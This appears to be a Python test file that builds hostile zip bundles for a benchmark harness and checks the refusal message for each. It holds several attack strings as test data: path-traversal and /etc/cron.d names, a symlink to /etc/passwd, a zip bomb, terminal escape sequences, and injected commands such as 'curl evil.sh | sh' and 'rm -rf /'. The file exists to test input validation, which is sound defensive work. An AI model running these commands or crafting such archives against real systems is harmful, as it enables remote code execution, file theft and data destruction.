"""Hostile bundles: each is refused in one sentence that holds certain words."""

import json
import struct
import warnings
import zipfile
from collections.abc import Callable
from typing import Any

from harness.exchange.bundle import LARGEST_BUNDLE, MANIFEST
from harness.store import MEASUREMENTS, RUN
from tests.exchange.made import (
    GOOD,
    GOOD_FILES,
    RAW_LINES,
    RAW_RUN,
    READY,
    WINDOW,
    Change,
    archived,
    bundled,
    changed_line,
    changed_run,
    line_data,
    run_data,
    with_manifest,
)

Make = Callable[[], bytes]
THREE = "a bundle has bundle.json, run.json and measurements.jsonl alone"


def beside(name: str, content: bytes = b"x") -> Make:
    """A good bundle with one more entry."""
    return lambda: archived(GOOD_FILES, [(name, content)])


def instead(name: str) -> Make:
    """A good bundle whose measurements bear another name."""

    def make() -> bytes:
        files = dict(GOOD_FILES)
        content = files.pop(MEASUREMENTS)
        return archived(files, [(name, content)])

    return make


def with_nul() -> bytes:
    """The name `run.json NUL .exe`, which zipfile shows as run.json."""
    renamed = archived({**GOOD_FILES, "run.json_.exe": b"x"})
    return renamed.replace(b"run.json_.exe", b"run.json\0.exe")


def twice() -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile sees it too
        return archived(GOOD_FILES, [(RUN, b"{}")])


def linked() -> bytes:
    entry = zipfile.ZipInfo(RUN)
    entry.external_attr = 0o120777 << 16
    return archived({name: one for name, one in GOOD_FILES.items() if name != RUN}, [(entry, b"/etc/passwd")])


def squeezed_by(kind: int) -> Make:
    return lambda: archived(GOOD_FILES, kind=kind)


def locked() -> bytes:
    """The flag of encryption in every header."""
    content = bytearray(GOOD)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        while place >= 0:
            content[place + offset] |= 1
            place = content.find(mark, place + 4)
    return bytes(content)


def bomb() -> bytes:
    return archived(with_manifest({RUN: RAW_RUN, MEASUREMENTS: b"\n" * (60 << 20)}), kind=zipfile.ZIP_DEFLATED)


def declared(size: int) -> Make:
    """A directory that lies about the size of the measurements."""

    def make() -> bytes:
        content = bytearray(GOOD)
        place = content.rfind(b"PK\x01\x02")
        content[place + 24 : place + 28] = struct.pack("<I", size)
        return bytes(content)

    return make


def flipped() -> bytes:
    content = bytearray(GOOD)
    content[len(content) // 2] ^= 0x40
    return bytes(content)


def crowd() -> bytes:
    return archived(GOOD_FILES, [(f"file{number}", b"") for number in range(70)])


def run_with(change: Change) -> Make:
    return lambda: changed_run(change)


def line_with(place: int, **changes: Any) -> Make:
    return lambda: changed_line(place, lambda line: line.update(changes))


def arm_with(place: int, **changes: Any) -> Make:
    return lambda: changed_line(place, lambda line: line["arm"].update(changes))


def raw_run(old: str, new: str) -> Make:
    """A run's text with one piece replaced, for what json.dumps would not write."""

    def make() -> bytes:
        text = RAW_RUN.decode()
        assert old in text
        return bundled(run=text.replace(old, new, 1).encode("utf-8", "surrogatepass"))

    return make


def raw_line(content: bytes) -> Make:
    return lambda: bundled(lines=(*RAW_LINES[:2], content, *RAW_LINES[3:]))


def lines_in(order: list[int]) -> Make:
    return lambda: bundled(lines=[RAW_LINES[place] for place in order])


def set_in(*path: str | int, to: Any) -> Change:
    def change(data: Any) -> None:
        for step in path[:-1]:
            data = data[step]
        data[path[-1]] = to

    return change


def environment(**changes: Any) -> Make:
    return run_with(lambda data: data["environment"].update(changes))


def protocol(**changes: Any) -> Make:
    return run_with(lambda data: data["plan"]["protocol"].update(changes))


def in_first(*path: str | int, to: Any) -> Make:
    """A change in the plan's first comparison."""
    return run_with(set_in("plan", "blocks", 0, "comparisons", 0, *path, to=to))


def both_configs(name: str, value: Any) -> Change:
    def change(data: Any) -> None:
        block = data["plan"]["blocks"][0]
        block["reference"][name] = value
        block["comparisons"][0]["reference"][name] = value

    return change


def contended_block(data: Any) -> None:
    block = data["plan"]["blocks"][0]
    block["comparisons"] *= 65


def lost_with(**changes: Any) -> Make:
    lost = {
        "schema": 4,
        "record": "lost",
        "arm": {"block": "1", "restart": 1, "life": 0, "position": 1},
        "outcome": "failed",
        "reason": "out of memory",
        "trace": "",
        **changes,
    }
    return lambda: bundled(lines=[*line_data(), lost])


def lost_early() -> bytes:
    lines = line_data()
    arm = lines[READY]["arm"]
    lost = {"schema": 4, "record": "lost", "arm": arm, "outcome": "failed", "reason": "gone", "trace": ""}
    return bundled(lines=[*lines[:2], lost, *lines[2:]])


def with_workers(**changes: Any) -> Make:
    """A window of an arm with two loader workers that hold two batches each, changed."""

    def make() -> bytes:
        lines = line_data()
        for line in lines:
            if line["record"] == "ready" and line["arm"] == lines[WINDOW]["arm"]:
                line["effective"] |= {"workers": 2, "prefetch_factor": 2, "micro_batches": 1}
        lines[WINDOW] |= {"batches": 10, "produced": 10, "slipped": 0, **changes}
        return bundled(lines=lines)

    return make


def with_steps(*slowest_s: float, first_half_s: float | None = None) -> Make:
    """A window of ten steps in 5 s that tells of its slowest step."""
    told = {"wall_s": 5.0, "wait_s": 0.0, "slowest_s": slowest_s, "first_half_s": first_half_s}
    return line_with(WINDOW, **told)


def with_quantiles(*quantiles_s: float) -> Make:
    """A window of ten steps in 5 s whose slowest took 0.6 s, and what it tells of all of them."""
    return line_with(WINDOW, wall_s=5.0, wait_s=0.0, slowest_s=(0.6,), quantiles_s=quantiles_s)


def of_passes(samples: int) -> Make:
    """Ten evaluation passes over so many items in all."""

    def make() -> bytes:
        run, lines = run_data(), line_data()
        for block in run["plan"]["blocks"]:
            block["timing"] = "evaluation"
            block["comparisons"][0]["timing"] = "evaluation"
        for line in lines:
            if line["record"] == "burst":
                line |= {"timing": "evaluation", "samples": samples}
        return bundled(run=json.dumps(run).encode(), lines=lines)

    return make


BETWEEN, AT_LEAST = "and must lie between", "and must be at least"
HOSTILE: dict[str, tuple[Make, str]] = {
    # the archive
    "text that is no archive": (lambda: b"hello", "it is no whole zip archive"),
    "nothing at all": (lambda: b"", "it is no whole zip archive"),
    "half an archive": (lambda: GOOD[: len(GOOD) // 2], "fetch it again"),
    "a flipped bit": (flipped, "it is no whole zip archive"),
    "more than 32 MiB": (lambda: b"\0" * (LARGEST_BUNDLE + 1), "is larger than 32 MiB, and no run is"),
    "a path upwards": (beside("../../evil.json"), f"has a file '../../evil.json', and {THREE}"),
    "an absolute path": (beside("/etc/cron.d/evil"), f"has a file '/etc/cron.d/evil', and {THREE}"),
    "a path of Windows": (beside("C:\\evil.exe"), f"has a file 'C:\\evil.exe', and {THREE}"),
    "backslashes upwards": (beside("..\\run.json"), "has a file '..\\run.json'"),
    "files in a folder": (instead("run/measurements.jsonl"), "has a file 'run/measurements.jsonl'"),
    "a folder called run.json": (beside("run.json/", b""), "has a file 'run.json/'"),
    "a device of Windows": (beside("NUL"), "has a file 'NUL'"),
    "a byte zero in a name": (with_nul, "has a file 'run.json .exe'"),
    "a Cyrillic letter in a name": (instead("mea\u0455urements.jsonl"), "has a file 'mea\u0455urements.jsonl'"),
    "a name in full width": (instead("\uff4deasurements.jsonl"), "has a file '\uff4deasurements.jsonl'"),
    "a name that runs backwards": (beside("run\u202enosj.exe"), "has a file 'run nosj.exe'"),
    "terminal commands in a name": (beside("\x1b]0;owned\x07\x1b[2J"), "has a file ']0;owned [2J'"),
    "capital letters": (instead("MEASUREMENTS.JSONL"), "has a file 'MEASUREMENTS.JSONL'"),
    "a program beside it": (beside("setup.py"), "has a file 'setup.py'"),
    "an archive in the archive": (beside("inner.zip", GOOD), "has a file 'inner.zip'"),
    "one name twice": (twice, "the archive has run.json twice"),
    "a link": (linked, "run.json is a link or a device"),
    "bzip2": (squeezed_by(zipfile.ZIP_BZIP2), "packed in a way that bundles are not"),
    "lzma": (squeezed_by(zipfile.ZIP_LZMA), "packed in a way that bundles are not"),
    "encryption": (locked, "is encrypted or packed in a way"),
    "a bomb": (bomb, "unpacks to more than 200 times its size"),
    "four gigabytes by its own word": (declared(0xFFFFFFF0), "would unpack to 4,294,967,280 bytes, and 64 MiB"),
    "less by its own word than it holds": (declared(10), "it is no whole zip archive"),
    "seventy files": (crowd, "lists more than 64 files, and a bundle has three"),
    "no measurements": (
        lambda: archived({name: one for name, one in GOOD_FILES.items() if name != MEASUREMENTS}),
        "the archive has no measurements.jsonl",
    ),
    "no manifest": (
        lambda: archived({name: one for name, one in GOOD_FILES.items() if name != MANIFEST}),
        "the archive has no bundle.json",
    ),
    # the manifest
    "one measurement changed after packing": (
        lambda: archived(
            {**GOOD_FILES, MEASUREMENTS: GOOD_FILES[MEASUREMENTS].replace(b'"steps": 10', b'"steps": 20')}
        ),
        "measurements.jsonl has changed since it was packed",
    ),
    "measurements cut short after packing": (
        lambda: archived({**GOOD_FILES, MEASUREMENTS: GOOD_FILES[MEASUREMENTS][:-300]}),
        "measurements.jsonl has changed since it was packed",
    ),
    "a manifest of other files": (lambda: bundled(files={}), "disagree about 'measurements.jsonl'"),
    "a manifest from the future": (lambda: bundled(schema=2), "bundle.json has schema 2, newer than 1; update"),
    "a manifest with another command": (
        lambda: bundled(command="speedmatrix run spoof"),
        "bundle.json says command 'speedmatrix run spoof', and the run itself 'speedmatrix run leak'",
    ),
    "a manifest of another version": (lambda: bundled(version="9.9"), "bundle.json says version '9.9'"),
    "a manifest that counts a billion records": (lambda: bundled(records=10**9), "says records '1000000000'"),
    "a manifest that wants more": (lambda: bundled(run_after="evil.sh"), "bundle.json.run_after is unknown"),
    # JSON
    "bytes that are no text": (raw_line(b'{"schema": 2, "\xff": 1}\n'), "line 3 is not UTF-8 text (byte 15)"),
    "UTF-16": (lambda: bundled(run=RAW_RUN.decode().encode("utf-16")), "run.json is not UTF-8 text"),
    "a byte order mark": (lambda: bundled(run=b"\xef\xbb\xbf" + RAW_RUN), "run.json is not JSON"),
    "half a character": (raw_run('"Linux 6.1"', '"Linux \\ud800"'), "run.json has half a character"),
    "a NaN": (
        raw_line(RAW_LINES[WINDOW].replace(b'"wait_s": ', b'"wait_s": NaN, "x": ')),
        "has NaN, which is not JSON",
    ),
    "an infinity": (raw_run('"seed": 7', '"seed": Infinity'), "run.json has Infinity, which is not JSON"),
    "a float too large": (raw_run('"burst_s": 1.0', '"burst_s": 1e999'), "has 1e999, a number too large"),
    "an integer of a million digits": (
        raw_run('"seed": 7', f'"seed": {"7" * 10**6}'),
        "an integer of more than 64 bits",
    ),
    "an integer of 65 bits": (raw_run('"seed": 7', f'"seed": {2**64}'), "has 18446744073709551616, an integer of"),
    "deep nesting": (lambda: bundled(run=b"[" * 200_000), "run.json is nested too deeply"),
    "nesting that Python bears": (
        lambda: bundled(run=b'{"schema": 2, "a": ' + b"[" * 100 + b"]" * 100 + b"}"),
        "run.json is nested too deeply",
    ),
    "one field twice": (raw_run('"seed": 7', '"seed": 7, "seed": 8'), "has the name 'seed' twice in one object"),
    "a text of 20,000 letters": (
        run_with(set_in("plan", "design", to="x" * 20_000)),
        "has a text of 20,000 characters",
    ),
    "a line of a mebibyte": (raw_line(b"[" + b" " * (1 << 20) + b"]\n"), "line 3 is longer than any record"),
    "100,001 records": (
        lambda: bundled(lines=[b"{}\n"] * 100_001),
        "has 100,001 lines, and 100,000 records are the most",
    ),
    "an empty line": (raw_line(b"\n"), "line 3 is not JSON"),
    "a run that is a list": (lambda: bundled(run=b"[]"), "run.json states no schema of any version"),
    "a schema from the future": (run_with(set_in("schema", to=5)), "run.json has schema 5, newer than 4; update"),
    "a schema that is true": (run_with(set_in("schema", to=True)), "run.json states no schema of any version"),
    "schema zero": (run_with(set_in("schema", to=0)), "run.json states no schema of any version"),
    "a record of another schema": (line_with(WINDOW, schema=1), "line 4 has schema 1, and run.json has 4"),
    "a record of no known kind": (line_with(WINDOW, record="pickle"), "must be one of ready, burst, lost"),
    "a record whose kind is a list": (line_with(WINDOW, record=[]), "must be one of ready, burst, lost"),
    "terminal commands in a field's name": (
        run_with(set_in("\x1b]0;owned\x07\nrm", to=1)),
        "run.json. ]0;owned rm is unknown",
    ),
    "a missing field": (run_with(lambda data: data.pop("rehearsed")), "run.json.rehearsed is missing"),
    # what the run says of itself
    "times that were invented": (run_with(set_in("rehearsed", to=True)), "it was rehearsed: its times are invented"),
    "a beginning that is a path": (run_with(set_in("began", to="../../../../tmp")), "which is no time in UTC"),
    "the 31st of February": (run_with(set_in("began", to="2026-02-31T00:00:00+00:00")), "which is no time in UTC"),
    "a beginning in the year 9999": (
        run_with(set_in("began", to="9999-01-01T00:00:00+00:00")),
        "which is still to come; set the clock",
    ),
    "a version that is a path": (run_with(set_in("version", to="../1")), "has '../1' for a version"),
    "a command with a second one behind it": (
        run_with(set_in("command", to="speedmatrix run leak; curl evil.sh | sh")),
        "no single call of speedmatrix: 'speedmatrix run leak; curl evil.sh | sh'",
    ),
    "a command in backticks": (run_with(set_in("command", to="speedmatrix run `id`")), "no single call of speedmatrix"),
    "a command of two lines": (run_with(set_in("command", to="speedmatrix run\nid")), "no single call of speedmatrix"),
    "another program's command": (run_with(set_in("command", to="rm -rf /")), "no single call of speedmatrix"),
    "an unclosed quote": (run_with(set_in("command", to="speedmatrix 'run")), "no single call of speedmatrix"),
    "a chip called ../..": (environment(accelerator="../.."), "its chip is called '../..', which gives no name"),
    "a chip without a name": (environment(accelerator=" "), "its chip is called '', which gives no name"),
    "a chip called NUL": (environment(accelerator="NUL"), "its chip is called 'NUL', which gives no name"),
    "a chip in Cyrillic letters": (
        environment(accelerator="\u042d\u043b\u044c\u0431\u0440\u0443\u0441"),
        "gives no name for a folder",
    ),
    "a chip of ten thousand letters": (environment(cpu="A" * 10_000), "which is too long or does not print"),
    "terminal commands in a chip's name": (environment(cpu="EPYC\x1b[31m"), "which is too long or does not print"),
    "a device nobody knows": (environment(device="tpu"), "was measured on 'tpu', and cpu, cuda, emulated are known"),
    "no cores": (environment(cores=0), f"cores is 0, {AT_LEAST} 1"),
    "negative memory": (environment(memory_bytes=-1), f"memory_bytes is -1, {AT_LEAST} 1"),
    "a variable that moves the cursor": (environment(variables=[["A", "\x1b[2J"]]), "too long or does not print"),
    "a thousand variables": (
        environment(variables=[["A", "1"]] * 1000),
        "names 1,000 variables, and 200 are the most",
    ),
    "a flag that moves the cursor": (environment(cpu_flags=["\x1b[2J"]), "too long or does not print"),
    "an allocator without end": (environment(allocators=["a" * 1000]), "too long or does not print"),
    "a thousand flags": (environment(cpu_flags=["a"] * 1000), "names 1,000 flags or allocators, and 200 are the most"),
    "a thousand packages": (environment(packages=[["a", "1"]] * 1000), "names 1,000 packages, and 200 are the most"),
    # its plan
    "no replicates": (protocol(restarts=0), f"restarts is 0, {BETWEEN} 1"),
    "a target below nothing": (protocol(target=-0.1), f"target is -0.1, {BETWEEN} 1e-06"),
    "a look at no replicates": (protocol(target=0.02, looks=[2, 0]), f"a look is 0, {BETWEEN} 1"),
    "endless looks": (protocol(target=0.02, looks=list(range(2, 99))), "plans 97 looks, and 20 are the most"),
    "a protocol in nan seconds": (protocol(burst_s="nan"), f"burst_s is nan, {BETWEEN} 0"),
    "two blocks of one name": (run_with(set_in("plan", "blocks", 1, "identity", to="0")), "has 2 blocks named '0'"),
    "65 comparisons in one block": (run_with(contended_block), "has 65 comparisons in one block, and 64 are the most"),
    "a workload without a name": (run_with(both_configs("workload", "")), "a name that is empty, too long"),
    "a workload of two lines": (in_first("treatment", "workload", to="a\nb"), "does not print: 'a b'"),
    "configurations of two workloads": (
        in_first("treatment", "workload", to="spoof"),
        "compares spoof@quick with leak@quick",
    ),
    "configurations of two sizes": (in_first("treatment", "size", to="smoke"), "compares leak@smoke with leak@quick"),
    "a reference that its block has not": (
        in_first("reference", "batch", to=1),
        "not compared with its block's reference",
    ),
    "a comparison timed on something else": (in_first("timing", to="epoch"), "on what its block times"),
    "a batch of no samples": (in_first("treatment", "batch", to=0), f"batch is 0, {BETWEEN} 1"),
    "a block of no rounds": (run_with(set_in("plan", "blocks", 0, "rounds", to=0)), f"rounds is 0, {BETWEEN} 1"),
    "a copy before the first": (in_first("copy", to=-1), f"copy is -1, {BETWEEN} 0"),
    "a protocol of negative steps": (protocol(floor_steps=-1), f"floor_steps is -1, {BETWEEN} 0"),
    "an option that promises nothing": (
        in_first("treatment", "switches", 0, "name", to="magic"),
        "switches on 'magic' without saying what that promises",
    ),
    "an option twice": (
        in_first("treatment", "switches", to=[{"name": "workers", "level": 2}, {"name": "workers", "level": 4}]),
        "switches 'workers' on twice",
    ),
    "a row named after what it does not switch on": (
        in_first("subject", to="pin_memory"),
        "is named after 'pin_memory', which neither of its configurations switches on",
    ),
    # its records
    "nothing measured": (lambda: bundled(lines=()), "nothing was measured in it yet; measure more"),
    "a window of no time": (line_with(WINDOW, wall_s=0), f"line 4: wall_s is 0, {BETWEEN} 1e-06"),
    "a window of negative time": (line_with(WINDOW, wall_s=-1.0), f"line 4: wall_s is -1, {BETWEEN}"),
    "a window of a picosecond": (line_with(WINDOW, wall_s=1e-12), f"line 4: wall_s is 1e-12, {BETWEEN}"),
    "a window of infinite time": (line_with(WINDOW, wall_s="inf"), f"line 4: wall_s is inf, {BETWEEN}"),
    "a window of nan seconds": (line_with(WINDOW, wall_s="nan"), f"line 4: wall_s is nan, {BETWEEN}"),
    "a window of no samples": (line_with(WINDOW, samples=0), f"line 4: samples is 0, {AT_LEAST} 1"),
    "a window of negative steps": (line_with(WINDOW, steps=-3), f"line 4: steps is -3, {AT_LEAST} 1"),
    "an absurd rate": (line_with(WINDOW, samples=2**62), f"the rate in samples a second is 1.07387e+18, {BETWEEN}"),
    "a wait longer than the window": (line_with(WINDOW, wait_s=1e6), f"line 4: wait_s is 1e+06, {BETWEEN} 0 and"),
    "a window before the beginning": (line_with(WINDOW, began_s=-5.0), f"line 4: began_s is -5, {BETWEEN} 0"),
    "less than a device can count": (
        line_with(WINDOW, energy_j=1e-300),
        f"line 4: energy_j is 1e-300, {BETWEEN} 0.001",
    ),
    "energy of nan joules": (line_with(WINDOW, energy_j="nan"), f"line 4: energy_j is nan, {BETWEEN}"),
    "a clock that runs backwards": (line_with(WINDOW, clock_mhz=-1.0), f"line 4: clock_mhz is -1, {BETWEEN} 0"),
    "negative company": (line_with(WINDOW, strangers=-1), f"line 4: strangers is -1, {AT_LEAST} 0"),
    "throttled by whom": (line_with(WINDOW, throttled=["evil"]), "line 4: the throttling 'evil' is none of sw_power"),
    "windows at the same time": (line_with(WINDOW, began_s=0.0), "began before the one before it had ended"),
    "an order that does not rise": (
        line_with(WINDOW, order=0),
        "line 4: order 0 comes after order 0 of the same attempt",
    ),
    "windows in another order": (lines_in([0, 1, 3, 2]), "line 4: order 0 comes after order 1 of the same attempt"),
    "no memory": (line_with(WINDOW, host_bytes=0), f"line 4: host_bytes is 0, {AT_LEAST} 1"),
    "one sample in eight steps": (line_with(WINDOW, steps=8, samples=1), "samples is 1, and 8 steps of 64 samples"),
    "a sample too many": (line_with(WINDOW, samples=641), "line 4: samples is 641, and 10 steps of 64 samples"),
    "half a batch that nothing explains": (
        line_with(WINDOW, samples=608),
        "line 4: samples is 608, and 10 steps of 64",
    ),
    "passes of half an item": (of_passes(641), "samples is 641, and 10 equal passes cannot have as many"),
    "a slowest step beyond the window": (with_steps(6.0), f"line 4: slowest_s is 6, {BETWEEN} 0 and"),
    "a slowest step that is none": (with_steps(0.4), f"line 4: the sum of slowest_s is 0.4, {BETWEEN} 1.4 and 5"),
    "negative slowest steps": (with_steps(-1.0), f"line 4: slowest_s is -1, {BETWEEN} 0 and"),
    "more slowest steps than are told": (
        with_steps(1.0, 1.0),
        "slowest_s tells of 2 steps, which is another",
    ),
    "quantiles of other steps": (with_quantiles(0.5, 0.6), "quantiles_s has 2 times, which is another count"),
    "quantiles in another order": (
        with_quantiles(0.6, *[0.5] * 9),
        "line 4: quantiles_s does not begin with the shortest step",
    ),
    "a shortest step above the mean": (
        with_quantiles(*[0.6] * 10),
        f"line 4: the shortest of quantiles_s is 0.6, {BETWEEN} 0 and",
    ),
    "a longest quantile beyond the slowest step": (
        with_quantiles(*[0.4] * 9, 0.9),
        f"line 4: the longest of quantiles_s is 0.9, {BETWEEN}",
    ),
    "a half longer than the whole": (with_steps(1.0, first_half_s=5.5), f"first_half_s is 5.5, {BETWEEN} 0 and 5"),
    "a half of five steps that are slower than any": (
        with_steps(0.6, first_half_s=3.5),
        f"line 4: first_half_s is 3.5, {BETWEEN} 2 and 3",
    ),
    "a half that leaves too much to the other": (
        with_steps(0.6, first_half_s=1.5),
        f"line 4: first_half_s is 1.5, {BETWEEN} 2 and 3",
    ),
    "a lead-in of no time": (line_with(WINDOW, lead_steps=3, lead_s=0.0), "lead_s is 0, and 3 steps led into it"),
    "a lead-in of no steps": (line_with(WINDOW, lead_steps=None), "lead_steps and lead_s are told together or not"),
    "a lead-in before the window before": (
        line_with(WINDOW, lead_s=9.0),
        "began_s and lead_s say that it began before the one before it had ended",
    ),
    "batches that nobody finished": (line_with(WINDOW, batches=10), "batches and produced are told together or not"),
    "batches that slipped from nowhere": (line_with(WINDOW, slipped=1), "line 4: slipped is told without batches"),
    "batches of workers that are not there": (
        line_with(WINDOW, batches=10, produced=10),
        "batches is told of an arm without loader workers",
    ),
    "a batch for half of the steps": (with_workers(batches=5), "line 4: batches is 5, which 10 steps cannot take"),
    "two batches for a step": (with_workers(batches=20, produced=20), "line 4: batches is 20, which 10 steps cannot"),
    "more batches than the queue gives": (with_workers(produced=1), f"line 4: produced is 1, {BETWEEN} 5 and 15"),
    "more batches than the queue holds": (with_workers(slipped=9), f"line 4: slipped is 9, {BETWEEN} 0 and 5"),
    "a peak below what lies there": (
        line_with(WINDOW, host_bytes=400, host_peak_bytes=399),
        f"line 4: host_peak_bytes is 399, {AT_LEAST} 400",
    ),
    "a device that is none": (
        line_with(WINDOW, device_s=1.0),
        "device_s is told of a device, and run.json was",
    ),
    "a device's memory without one": (
        line_with(WINDOW, device_bytes=1),
        "device_bytes is told of a device, and",
    ),
    "steps of no time": (line_with(READY, step_s=0.0), f"line 1: step_s is 0, {BETWEEN}"),
    "a window of something else": (line_with(WINDOW, timing="loader"), "a window of loader, and its block times step"),
    "a position beyond the block": (arm_with(WINDOW, position=2), f"the position in block 0 is 2, {BETWEEN} 0 and 1"),
    "a negative position": (arm_with(WINDOW, position=-1), f"the position in block 0 is -1, {BETWEEN}"),
    "a replicate beyond the protocol": (arm_with(WINDOW, restart=2), f"the replicate is 2, {BETWEEN} 0 and 1"),
    "a negative life": (arm_with(WINDOW, life=-1), f"the attempt is -1, {BETWEEN} 0"),
    "a block nobody planned": (arm_with(WINDOW, block="../x"), "line 4: the plan has no block '../x'"),
    "an arm that never was ready": (lines_in([0, 2, 3]), "an arm without a record that it was ready"),
    "an arm ready twice": (lines_in([0, 1, 0]), "line 3: that arm was ready before"),
    "an arm that goes on after it was lost": (lost_early, "line 4: that arm was lost before"),
    "a first step before it began": (line_with(READY, first_step_s=-1), f"line 1: first_step_s is -1, {BETWEEN} 0"),
    "a negative warm-up": (line_with(READY, warm_up_steps=-1), f"line 1: warm_up_steps is -1, {AT_LEAST} 0"),
    "a start of nan seconds": (line_with(READY, build_s="nan"), f"line 1: build_s is nan, {BETWEEN}"),
    "an upper bound of zero": (line_with(READY, loader_rate=0), f"line 1: loader_rate is 0, {BETWEEN}"),
    "a negative upper bound": (line_with(READY, compute_rate=-1), f"line 1: compute_rate is -1, {BETWEEN}"),
    "a negative spread": (line_with(READY, seed_spread=-0.1), "line 1: seed_spread is negative"),
    "a negative spread of repeats": (line_with(READY, repeat_spread=-0.1), "line 1: repeat_spread is negative"),
    "ten thousand and one losses": (line_with(READY, losses=[1.0] * 10_001), "it has 10,001 losses, and 10,000"),
    "an outcome that is a verdict": (lost_with(outcome="faster"), "the outcome 'faster' is none of failed, skipped"),
    "a loss without a reason": (lost_with(reason="\x1b\n"), "an arm was lost without a reason"),
}
